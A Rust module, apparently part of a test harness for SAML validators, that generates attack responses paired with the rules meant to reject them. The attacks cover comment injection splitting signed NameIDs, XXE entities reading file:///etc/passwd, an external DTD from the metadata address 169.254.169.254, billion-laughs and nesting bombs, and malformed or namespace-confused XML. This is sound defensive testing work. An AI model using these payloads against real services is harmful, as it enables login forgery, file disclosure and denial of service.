//! Documents that two parsers read differently, that a lenient one repairs, or that cost far more than their size.
//! Comments and processing instructions vanish in canonicalization, so those inside signed texts leave the signature
//! valid: only a rule against them helps.

use super::{Attack, Rule, Scene, Sent, attack, replaced, with_twin};
use crate::{
    saml::{Attribute, ResponseBuilder, Value},
    sign::Signing,
};

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = markup_inside_texts();
    all.extend(prologs());
    all.extend(malformed());
    all.extend(attributes_and_namespaces());
    all.extend(bombs());
    all
}

/// Class 6: text cut in two by something that canonicalization drops (CVE-2017-11427).
fn markup_inside_texts() -> Vec<Attack> {
    let tricks =
        [("a comment", "<!-- -->"), ("a processing instruction", "<?x y?>"), ("a CDATA section", "<![CDATA[]]>")];
    type Place = (&'static str, fn(&mut ResponseBuilder, Value), fn(&Scene) -> (String, String));
    let places: [Place; 4] = [
        (
            "NameID",
            |g, v| g.name_id.iter_mut().for_each(|n| n.value = v.clone()),
            |s| (s.victim.clone(), ".evil.example".to_owned()),
        ),
        (
            "AttributeValue",
            |g, v| g.attributes = vec![Attribute { values: vec![v], ..Attribute::new("email", [""]) }],
            |s| (s.victim.clone(), ".evil.example".to_owned()),
        ),
        (
            "Audience",
            |g, v| g.conditions.iter_mut().for_each(|c| c.audiences = vec![vec![v.clone()]]),
            |s| halves(&s.sp),
        ),
        ("Issuer", |g, v| g.assertion_issuer = Some(v), |s| halves(&s.idp)),
    ];
    let mut all = Vec::new();
    for (trick, markup) in tricks {
        for (place, put, text) in places {
            all.push(with_twin(
                format!("{trick} inside {place}"),
                6,
                Rule::Document,
                move |s: &Scene| {
                    let (before, after) = text(s);
                    let value = Value::Xml(format!("{before}{markup}{after}"));
                    Ok(s.genuine().with(|g| put(g, value)).build()?.xml)
                },
                move |s: &Scene| {
                    let (before, after) = text(s);
                    let value = Value::Xml(format!("{before}{after}"));
                    Ok(s.genuine().with(|g| put(g, value)).build()?.xml)
                },
            ));
        }
    }
    all.push(attack("an element inside NameID", 6, Rule::NameId, |s| {
        let value = Value::Xml(format!("{}<saml:b/>.evil.example", s.victim));
        Ok(s.genuine().with(|g| g.name_id.iter_mut().for_each(|name_id| name_id.value = value.clone())).build()?.xml)
    }));
    all.push(attack("a comment between elements", 6, Rule::Document, |s| {
        replaced(&s.genuine().build()?.xml, "<saml:Subject>", "<!-- --><saml:Subject>")
    }));
    all
}

fn halves(text: &str) -> (String, String) {
    let (before, after) = text.split_at(text.len() / 2);
    (before.to_owned(), after.to_owned())
}

/// Classes 5 and 9: DOCTYPE and entities.
fn prologs() -> Vec<Attack> {
    let before = |name: &'static str, class: u8, prolog: String| {
        attack(name, class, Rule::Document, move |s: &Scene| Ok(format!("{prolog}{}", s.genuine().build()?.xml)))
    };
    let naming = |name: &'static str, class: u8, prolog: &'static str| {
        // The entity stands in the NameID, which is signed as it is written.
        attack(name, class, Rule::Document, move |s: &Scene| {
            let xml = s.genuine().build()?.xml.replace(&s.attacker, "&x;");
            Ok(format!("{prolog}{xml}"))
        })
    };
    let mut laughs = "<!DOCTYPE r [<!ENTITY a0 \"ha\">".to_owned();
    for level in 1..12 {
        laughs += &format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    }
    laughs += "<!ENTITY x \"&a11;\">]>";
    vec![
        before("an empty DOCTYPE", 5, "<!DOCTYPE samlp:Response>".to_owned()),
        before("a DOCTYPE from elsewhere", 5, "<!DOCTYPE r SYSTEM \"http://169.254.169.254/evil.dtd\">".to_owned()),
        before(
            "a parameter entity from elsewhere",
            5,
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/\"> %p;]>".to_owned(),
        ),
        before(
            "a DOCTYPE that gives attributes defaults",
            5,
            "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>".to_owned(),
        ),
        before(
            "a processing instruction before the root",
            5,
            "<?xml-stylesheet href=\"http://evil.example/\"?>".to_owned(),
        ),
        before("a comment before the root", 5, "<!-- -->".to_owned()),
        before("billion laughs", 9, laughs),
        naming("an internal entity as NameID", 5, "<!DOCTYPE r [<!ENTITY x \"ada@acme.example\">]>"),
        naming("a file as NameID", 9, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        naming("an undeclared entity as NameID", 5, ""),
    ]
}

/// Class 5: a lenient parser repairs these.
fn malformed() -> Vec<Attack> {
    let changed = |name: &'static str, from: &'static str, to: &'static str| {
        attack(name, 5, Rule::Document, move |s: &Scene| replaced(&s.genuine().build()?.xml, from, to))
    };
    let wrapped = |name: &'static str, before: &'static [u8], after: &'static [u8]| {
        attack(name, 5, Rule::Document, move |s: &Scene| {
            let xml = s.genuine().build()?.xml;
            Ok(Sent::Document([before, xml.as_bytes(), after].concat()))
        })
    };
    vec![
        changed("an element that never ends", "</saml:AttributeStatement>", ""),
        changed("elements that overlap", "</saml:NameID>", "</saml:Subject></saml:NameID>"),
        changed("an end tag of another name", "</saml:NameID>", "</saml:nameid>"),
        changed("an attribute without quotes", "Version=\"2.0\"", "Version=2.0"),
        changed("an attribute twice", "Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\""),
        changed("an attribute without a value", "Version=\"2.0\"", "Version=\"2.0\" evil"),
        changed("a bare ampersand", "<saml:Subject>", "&<saml:Subject>"),
        changed("a reference to a NUL", "<saml:Subject>", "&#0;<saml:Subject>"),
        changed("a less-than sign in an attribute", "Version=\"2.0\"", "Version=\"2.0\" evil=\"<\""),
        changed("a CDATA end in text", "<saml:Subject>", "]]><saml:Subject>"),
        changed("an undeclared prefix", "<saml:Subject>", "<evil:x/><saml:Subject>"),
        changed("an element name with two colons", "<saml:Subject>", "<saml:a:b/><saml:Subject>"),
        wrapped("text after the root", b"", b"stray"),
        wrapped("text before the root", b"stray", b""),
        wrapped("a second root", b"", b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>"),
        wrapped("a NUL after the root", b"", b"\0"),
        wrapped("bytes that are no UTF-8", b"", b"\xff\xfe"),
        wrapped("a wrong encoding declared", b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>", b""),
        wrapped("an XML 1.1 declaration", b"<?xml version=\"1.1\"?>", b""),
        attack("a document cut off", 5, Rule::Document, |s| {
            let mut bytes = s.genuine().build()?.xml.into_bytes();
            bytes.truncate(bytes.len() - "</samlp:Response>".len());
            Ok(Sent::Document(bytes))
        }),
        attack("a document cut off in a tag", 5, Rule::Document, |s| {
            let mut bytes = s.genuine().build()?.xml.into_bytes();
            bytes.truncate(bytes.len() - 3);
            Ok(Sent::Document(bytes))
        }),
        attack("UTF-16 bytes", 5, Rule::Document, |s| {
            let xml = s.genuine().build()?.xml;
            let bytes = xml.encode_utf16().flat_map(u16::to_le_bytes);
            Ok(Sent::Document([0xff, 0xfe].into_iter().chain(bytes).collect()))
        }),
        attack("an empty document", 5, Rule::Document, |_| Ok(Sent::Document(Vec::new()))),
        attack("another root element", 5, Rule::Structure, |s| {
            Ok(s.genuine().build()?.xml.replace("samlp:Response", "samlp:ArtifactResponse"))
        }),
    ]
}

/// Class 5: which attribute is the ID, which namespace is SAML's.
fn attributes_and_namespaces() -> Vec<Attack> {
    let on_assertion = |name: &'static str, breaks: Rule, attribute: fn(&Scene) -> String| {
        // Signed with the attribute in place: only its meaning is in doubt.
        attack(name, 5, breaks, move |s: &Scene| {
            let plain = s.genuine();
            let start = format!("<saml:Assertion {} ", attribute(s));
            plain.build_from(replaced(&plain.assertion_xml(), "<saml:Assertion ", &start)?).map(|built| built.xml)
        })
    };
    vec![
        on_assertion("an Id beside the ID", Rule::Structure, |_| "Id=\"_other\"".to_owned()),
        on_assertion("an id beside the ID", Rule::Structure, |_| "id=\"_other\"".to_owned()),
        on_assertion("an xml:id beside the ID", Rule::Structure, |_| "xml:id=\"_other\"".to_owned()),
        on_assertion("an ID in a namespace beside the ID", Rule::Structure, |s| {
            format!("xmlns:p=\"urn:p\" p:ID=\"{}\"", s.forged().assertion_id)
        }),
        attack("the reserved prefix xml rebound", 5, Rule::Document, |s| {
            replaced(&s.genuine().build()?.xml, "<samlp:Status>", "<samlp:Status xmlns:xml=\"urn:evil\">")
        }),
        attack("a prefix bound to nothing", 5, Rule::Document, |s| {
            replaced(&s.genuine().build()?.xml, "<samlp:Status>", "<samlp:Status xmlns:p=\"\">")
        }),
        attack("one attribute under two prefixes of one namespace", 5, Rule::Document, |s| {
            let status = "<samlp:Status xmlns:p=\"urn:p\" xmlns:q=\"urn:p\" p:a=\"1\" q:a=\"2\">";
            replaced(&s.genuine().build()?.xml, "<samlp:Status>", status)
        }),
        attack("an assertion in another namespace, well signed", 5, Rule::Structure, |s| {
            let one = s.genuine();
            let other = one.assertion_xml().replacen(
                "xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
                "xmlns:saml=\"urn:oasis:names:tc:SAML:1.0:assertion\"",
                1,
            );
            let signing = Signing::with(s.key.clone());
            let signed = crate::sign::sign(&other, &one.assertion_id, &signing)?;
            Ok(one.response_around(&signed))
        }),
        attack("a Response in another namespace", 5, Rule::Structure, |s| {
            let from = "xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"";
            replaced(&s.genuine().build()?.xml, from, "xmlns:samlp=\"urn:oasis:names:tc:SAML:1.0:protocol\"")
        }),
        attack("no ID on the assertion", 5, Rule::Structure, |s| {
            let one = s.genuine();
            let id = format!(" ID=\"{}\"", one.assertion_id);
            replaced(&one.build()?.xml, &id, "")
        }),
        attack("no ID on the Response", 5, Rule::Structure, |s| {
            let one = s.genuine();
            let id = format!(" ID=\"{}\"", one.response_id);
            replaced(&one.build()?.xml, &id, "")
        }),
    ]
}

/// Class 9.
fn bombs() -> Vec<Attack> {
    let in_status = |name: &'static str, content: fn() -> String| {
        attack(name, 9, Rule::Document, move |s: &Scene| {
            let detail = format!("<samlp:StatusDetail>{}</samlp:StatusDetail></samlp:Status>", content());
            replaced(&s.genuine().build()?.xml, "</samlp:Status>", &detail)
        })
    };
    vec![
        in_status("100,000 attributes on one tag", || {
            let attributes: String = (0..100_000).map(|number| format!(" a{number}=\"\"")).collect();
            format!("<x{attributes}/>")
        }),
        in_status("5,000 attributes on one tag", || {
            let attributes: String = (0..5_000).map(|number| format!(" a{number}=\"\"")).collect();
            format!("<x{attributes}/>")
        }),
        in_status("5,000 namespace declarations on one tag", || {
            let declarations: String = (0..5_000).map(|number| format!(" xmlns:n{number}=\"urn:{number}\"")).collect();
            format!("<x{declarations}/>")
        }),
        in_status("a namespace declaration on each of 60 nested tags times 20", || {
            let start = |level: u32| -> String {
                let declared: String = (0..20).map(|n| format!(" xmlns:n{level}x{n}=\"urn:{level}:{n}\"")).collect();
                format!("<x{declared}>")
            };
            let open: String = (0..50).map(start).collect();
            format!("{open}{}", "</x>".repeat(50))
        }),
        in_status("100,000 levels of nesting", || format!("{}{}", "<x>".repeat(100_000), "</x>".repeat(100_000))),
        in_status("1,000 levels of nesting", || format!("{}{}", "<x>".repeat(1_000), "</x>".repeat(1_000))),
        in_status("60,000 elements", || "<x/>".repeat(60_000)),
        in_status("ten megabytes of text", || "x".repeat(10_000_000)),
        attack("ten megabytes of base64", 9, Rule::Document, |_| Ok(Sent::FormValue("A".repeat(10_000_000)))),
        attack("ten megabytes of blanks in the form field", 9, Rule::Document, |_| {
            Ok(Sent::FormValue(" ".repeat(10_000_000)))
        }),
    ]
}
